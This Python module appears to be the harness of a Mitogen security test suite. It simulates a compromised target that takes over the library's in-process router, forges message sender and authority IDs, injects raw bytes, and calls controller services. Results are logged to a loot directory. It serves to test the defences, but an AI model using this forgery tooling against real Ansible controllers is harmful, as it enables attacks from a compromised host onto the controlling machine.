"""What a hostile target has in its hands: its own interpreter's router, and time. Runs on the target only."""

import gc
import os
import struct
import subprocess
import sys
import threading
import time

LOOT = os.environ.get("HOSTILE_LOOT", "")
#: How long to wait for what may never come, because we were disconnected.
PATIENCE = 60.0


def start():
    """Attack, on a thread of its own, once Mitogen runs here and the playbook says so."""
    thread = threading.Thread(target=_main, daemon=True)
    thread.start()


def _main():
    hands = _hands()
    if hands is None:
        return
    # Whatever becomes of this interpreter, the playbook need not wait for it.
    subprocess.Popen(
        ["/bin/sh", "-c", f"cat >/dev/null; touch {LOOT}/done {LOOT}/over"],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    import attacks

    attack = getattr(attacks, os.environ["HOSTILE_ATTACK"])
    if getattr(attack, "by_hops", False):
        if os.getuid() == 0:
            return
    else:
        _wait(lambda: os.path.exists(f"{LOOT}/go"))
    try:
        attack(hands)
    except Exception as exc:
        if not hands.gone():
            note("failed", repr(exc))
    finally:
        for name in ("done", "over"):
            open(f"{LOOT}/{name}", "w").close()


def _wait(condition):
    end = time.time() + PATIENCE
    while not condition() and time.time() < end:
        time.sleep(0.005)
    return condition()


def note(name, text):
    """Write a line into a file of the loot."""
    with open(f"{LOOT}/{name}", "a", encoding="utf-8") as file:
        file.write(f"{text}\n")


def _hands():
    def running():
        mitogen = sys.modules.get("mitogen")
        return getattr(mitogen, "context_id", 0) and getattr(sys.modules.get("mitogen.core"), "LOAD_RESOURCE", None)

    if not _wait(running):
        return None
    if not _wait(lambda: [one for one in gc.get_objects() if type(one).__name__ == "Router"]):
        return None
    return Hands(next(one for one in gc.get_objects() if type(one).__name__ == "Router"))


class Hands:
    """Sends what it likes to the worker."""

    def __init__(self, router):
        self.router = router
        self.core = sys.modules["mitogen.core"]
        mitogen = sys.modules["mitogen"]
        self.number = mitogen.context_id
        _wait(lambda: mitogen.parent_id in router._stream_by_id)
        self.stream = router._stream_by_id[mitogen.parent_id]
        self.answers = []
        #: Where answers of ours are awaited.
        self.asked = set()
        self._listen()
        self.handle = router.add_handler(self._on_answer, persist=True)
        note("number", self.number)

    def _listen(self):
        route = self.router._async_route

        def note_who_asks(msg, in_stream=None):
            if in_stream is not None:
                self.asked.add(msg.reply_to)
            route(msg, in_stream)

        self.router._async_route = note_who_asks

    def _on_answer(self, msg):
        self.answers.append(msg)
        note("answers", repr(msg.data)[:2000])

    def send(self, data=b"", obj=None, dst=0, src=None, auth=None, handle=0, reply_to=0, enc=None):
        """Send one message, with this sender, authority and destination."""
        core = self.core
        msg = core.Message.pickled(obj) if obj is not None else core.Message(data=data)
        msg.dst_id, msg.handle, msg.reply_to = dst, handle, reply_to
        msg.src_id = self.number if src is None else src
        msg.auth_id = self.number if auth is None else auth
        if enc is not None:
            msg.enc = enc
        self.stream.protocol.send(msg)

    def raw(self, data):
        """Write bytes as they are, between messages."""
        self.router.broker.defer(self.stream.protocol._writer.write, data)

    def header(self, length, handle=1000, dst=0):
        """Return the first bytes of a message that says to be so long."""
        core = self.core
        return struct.pack(core.Message.HEADER_FMT, core.Message.ENC_PKL, dst, self.number, self.number, handle, 0, length)

    def gone(self):
        """Return whether we were disconnected."""
        return self.stream.receive_side.closed or self.stream.transmit_side.closed

    def settle(self):
        """Return when the worker has seen what was sent so far, or has hung up."""
        before = len(self.answers)
        self.send(handle=self.core.ALLOCATE_ID, reply_to=self.handle)
        _wait(lambda: len(self.answers) > before or self.gone())
        note("settled", "gone" if self.gone() else "answered")

    def call_service(self, service, method, **kwargs):
        """Ask a service, and wait for its answer."""
        before = len(self.answers)
        self.send(obj=(service, method, self.core.Kwargs(kwargs)), handle=self.core.CALL_SERVICE, reply_to=self.handle)
        _wait(lambda: len(self.answers) > before or self.gone())
